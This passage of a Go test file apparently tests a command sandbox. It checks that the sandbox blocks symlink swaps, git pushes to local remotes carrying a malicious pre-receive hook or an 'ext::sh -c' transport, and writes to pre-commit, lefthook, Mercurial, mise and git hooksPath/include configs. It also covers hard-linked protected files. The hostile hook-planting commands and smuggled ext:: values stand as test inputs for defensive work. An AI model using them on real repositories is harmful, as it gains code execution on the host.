	if !strings.Contains(r.err.Error(), "symbolic link") || strings.Contains(r.stdout, "SECRET-OUTSIDE") {
		t.Fatalf("swapped workspace: %q %v", r.stdout, r.err)
	}
	if b, _ := os.ReadFile(filepath.Join(c.outside, "key")); string(b) != "SECRET-OUTSIDE\n" {
		t.Fatalf("the link's target was written: %q", b)
	}
}

// A local repository as a remote runs its own hooks (receive-pack) in the
// command's sandbox, with the rule's credentials: git is told to use only
// network transports, so no spelling of a local remote reaches it.
func TestContainmentGitLocalRemote(t *testing.T) {
	c := startContainment(t, "")
	if r := c.sh(t, `git init -q --bare evil.git && printf '#!/bin/sh\ntouch ran-hook\n' > evil.git/hooks/pre-receive && chmod +x evil.git/hooks/pre-receive`); r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("setup: %+v", r)
	}
	for _, remote := range []string{"evil.git", "ext::sh -c touch% ran-ext"} {
		r := execArgv(t, c.in, "/usr/bin/git", "push", remote, "HEAD:refs/heads/x")
		if r.err == nil && r.exit.GetExitCode() == 0 {
			t.Errorf("push to %q succeeded", remote)
		}
	}
	if r := c.sh(t, "git push evil.git HEAD:refs/heads/y 2>&1; git -c protocol.allow=always push evil.git HEAD:refs/heads/z 2>&1; true"); !strings.Contains(r.stdout, "not allowed") {
		t.Errorf("git in a shell: %q", r.stdout)
	}
	for _, marker := range []string{"ran-hook", "ran-ext"} {
		if _, err := os.Stat(filepath.Join(c.ws, marker)); err == nil {
			t.Errorf("%s: the remote ran code", marker)
		}
	}
}

// Git hook managers' configuration runs code on the host's next commit:
// pre-commit's and lefthook's files at a work tree root are read-only
// when they exist, and quarantined when a command creates them.
func TestContainmentHookManagersProtected(t *testing.T) {
	c := startContainment(t, "")
	for _, f := range []string{".pre-commit-config.yaml", "lefthook.yml"} {
		if err := os.WriteFile(filepath.Join(c.ws, f), []byte("# the owner's\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(c.ws, ".lefthook"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, attempt := range []string{
		"echo 'repos: [{repo: local, hooks: [{id: x, entry: evil}]}]' >> .pre-commit-config.yaml",
		"echo 'pre-commit: {commands: {x: {run: evil}}}' >> lefthook.yml",
		"mkdir -p .lefthook/pre-commit && echo evil > .lefthook/pre-commit/x.sh",
		"rm .pre-commit-config.yaml",
	} {
		if r := c.sh(t, attempt); r.err != nil || r.exit.GetExitCode() == 0 {
			t.Errorf("%s: %+v", attempt, r)
		}
	}
	fresh := []string{".pre-commit-hooks.yaml", "lefthook.yaml", ".lefthook.yml", ".lefthook.yaml", "lefthook-local.yml",
		".config/lefthook.toml", ".lefthook-local", "sub/.pre-commit-config.yaml"}
	r := c.sh(t, `git init -q sub && mkdir -p .config .lefthook-local/pre-commit &&
for f in .pre-commit-hooks.yaml lefthook.yaml .lefthook.yml .lefthook.yaml lefthook-local.yml .config/lefthook.toml .lefthook-local/pre-commit/x.sh sub/.pre-commit-config.yaml plain.yml; do echo evil > $f; done`)
	if r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("run: %+v", r)
	}
	for _, gone := range fresh {
		if _, err := os.Lstat(filepath.Join(c.ws, gone)); err == nil {
			t.Errorf("%s was left in place (audit %v)", gone, lastResult(t, c.in).Details)
		}
	}
	if _, err := os.Stat(filepath.Join(c.ws, "plain.yml")); err != nil {
		t.Errorf("an ordinary file was quarantined: %v", err)
	}
}

// A protected file with a second name (a hard link elsewhere in the
// workspace, where it would stay writable) refuses the exec, with a reason
// that names it; nothing runs. Removing the link lets the next one run.
func TestContainmentHardLinkedProtectedRefused(t *testing.T) {
	c := startContainment(t, "")
	if err := os.WriteFile(filepath.Join(c.ws, ".envrc"), []byte("# the owner's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(c.ws, "notes.txt")
	if err := os.Link(filepath.Join(c.ws, ".envrc"), other); err != nil {
		t.Fatal(err)
	}
	testserver.SandboxWorkspace(t, c.ws)
	r := c.sh(t, "echo ran > ran.txt")
	if r.err == nil || refusal.As(r.err).Code != refusal.SandboxUnavailable || !strings.Contains(r.err.Error(), ".envrc has 2 hard links") {
		t.Fatalf("a hard-linked protected file: %+v", r)
	}
	if _, err := os.Stat(filepath.Join(c.ws, "ran.txt")); err == nil {
		t.Fatal("the command ran")
	}
	if err := os.Remove(other); err != nil {
		t.Fatal(err)
	}
	if r := c.sh(t, "true"); r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("after the link was removed: %+v", r)
	}
}

// Mercurial's control directory and mise's configuration (both run code
// on the host: hgrc hooks, mise [hooks] and env._.source): read-only when
// present, quarantined when created, at any depth for mise.toml.
func TestContainmentHgAndMiseProtected(t *testing.T) {
	c := startContainment(t, "")
	if err := os.MkdirAll(filepath.Join(c.ws, ".hg"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(c.ws, "mise.toml"), []byte("# the owner's\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, attempt := range []string{
		"printf '[hooks]\\nupdate = evil\\n' > .hg/hgrc",
		"echo '[hooks] enter = \"evil\"' >> mise.toml",
		"rm mise.toml",
	} {
		if r := c.sh(t, attempt); r.err != nil || r.exit.GetExitCode() == 0 {
			t.Errorf("%s: %+v", attempt, r)
		}
	}
	fresh := []string{"sub/dir/mise.toml", ".mise.local.toml", ".config/mise"}
	r := c.sh(t, `mkdir -p sub/dir .config/mise && echo evil > sub/dir/mise.toml && echo evil > .mise.local.toml && echo evil > .config/mise/config.toml && echo ok > plain.toml`)
	if r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("run: %+v", r)
	}
	for _, gone := range fresh {
		if _, err := os.Lstat(filepath.Join(c.ws, gone)); err == nil {
			t.Errorf("%s was left in place (audit %v)", gone, lastResult(t, c.in).Details)
		}
	}
	if _, err := os.Stat(filepath.Join(c.ws, "plain.toml")); err != nil {
		t.Errorf("an ordinary file was quarantined: %v", err)
	}
}

// Git configuration naming a hooks directory or an included file by an
// absolute path, or by a relative one leaving the work tree and coming
// back in by the workspace's name, or through a link outside the
// workspace leading into it: each is protected like a relative one. A
// path outside the workspace is ignored (the command cannot write there).
func TestContainmentAbsoluteHooksPathProtected(t *testing.T) {
	c := startContainment(t, "")
	for _, d := range []string{"abs/hooks", "back/hooks", "aliased/hooks"} {
		if err := os.MkdirAll(filepath.Join(c.ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(c.ws, "abs.gitconfig"), []byte("[core]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	alias := filepath.Join(filepath.Dir(c.ws), "alias")
	if err := os.Symlink(c.ws, alias); err != nil {
		t.Fatal(err)
	}
	git(t, c.ws, "config", "core.hooksPath", filepath.Join(c.ws, "abs/hooks"))
	git(t, c.ws, "config", "--add", "core.hooksPath", "../ws/back/hooks")
	git(t, c.ws, "config", "--add", "core.hooksPath", filepath.Join(alias, "aliased/hooks"))
	git(t, c.ws, "config", "--add", "core.hooksPath", c.outside)
	git(t, c.ws, "config", "include.path", filepath.Join(c.ws, "abs.gitconfig"))
	git(t, c.ws, "config", "includeIf.gitdir:/.path", filepath.Join(c.ws, "later.gitconfig"))
	for _, attempt := range []string{
		"echo evil > abs/hooks/pre-commit",
		"echo evil > back/hooks/pre-commit",
		"echo evil > aliased/hooks/pre-commit",
		"echo '[core] fsmonitor = evil' >> abs.gitconfig",
	} {
		if r := c.sh(t, attempt); r.err != nil || r.exit.GetExitCode() == 0 {
			t.Errorf("%s: %+v", attempt, r)
		}
	}
	// Named but absent: quarantined once a command creates it.
	if r := c.sh(t, "echo '[core] fsmonitor = evil' > later.gitconfig"); r.err != nil || r.exit.GetExitCode() != 0 {
		t.Fatalf("run: %+v", r)
	}
	if _, err := os.Lstat(filepath.Join(c.ws, "later.gitconfig")); err == nil {
		t.Errorf("later.gitconfig was left in place (audit %v)", lastResult(t, c.in).Details)
	}
}
